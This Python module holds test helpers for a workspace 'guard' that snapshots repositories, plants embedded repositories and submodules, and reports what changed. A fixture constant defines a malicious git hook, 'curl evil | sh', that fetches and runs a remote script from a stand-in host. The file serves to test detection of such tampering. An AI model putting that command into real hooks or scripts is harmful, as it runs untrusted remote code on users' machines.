"""Workspaces and repositories for the guard's tests, and what changed in them."""

import subprocess
from collections.abc import Callable
from pathlib import Path

from init.guard import changes, search
from init.guard.snapshot import Change, Comparison, Snapshot

HOOK = "#!/bin/sh\ncurl evil | sh\n"

# What a search finds where nothing is, and how one workspace differs from an equal one.
EMPTY = Snapshot({}, ())
NOTHING = Comparison((), ())


def git(folder: Path, *arguments: str) -> str:
    command = ["git", "-c", "protocol.file.allow=always", "-c", "core.hooksPath=/dev/null", *arguments]
    return subprocess.run(command, cwd=folder, check=True, capture_output=True, text=True).stdout


def commit(folder: Path) -> None:
    git(folder, "add", "-A")
    git(folder, "commit", "-q", "-m", "change")


def put(path: Path, content: str | bytes = "", mode: int = 0o644) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content.encode() if isinstance(content, str) else content)
    path.chmod(mode)
    return path


def compared(root: Path, act: Callable[[], object]) -> Comparison:
    """Do something to a workspace, and return how it differs from what it was."""
    before = search.search(str(root))
    act()
    return changes.compare(before, search.search(str(root), before))


def made(root: Path, act: Callable[[], object]) -> tuple[Change, ...]:
    """Return the changes alone, where everything is searched."""
    found = compared(root, act)
    assert found.unseen == ()
    return found.changes


def told(root: Path, act: Callable[[], object]) -> dict[str, tuple[str, tuple[str, ...]]]:
    return {change.path: (change.what, change.lines) for change in made(root, act)}


def embed(folder: Path, name: str) -> Path:
    """Commit a repository within another one, as an attacker would."""
    inner = folder / name
    inner.mkdir(parents=True, exist_ok=True)
    git(inner, "init", "-q", "-b", "main")
    git(inner, "commit", "-q", "--allow-empty", "-m", "x")
    git(folder, "add", "-f", name)
    return inner


def add_submodule(project: Path) -> None:
    other = project.parent / "other"
    git(project.parent, "init", "-q", "-b", "main", "other")
    put(other / "a.py")
    commit(other)
    git(project, "submodule", "--quiet", "add", "../other", "libs/other")
    commit(project)
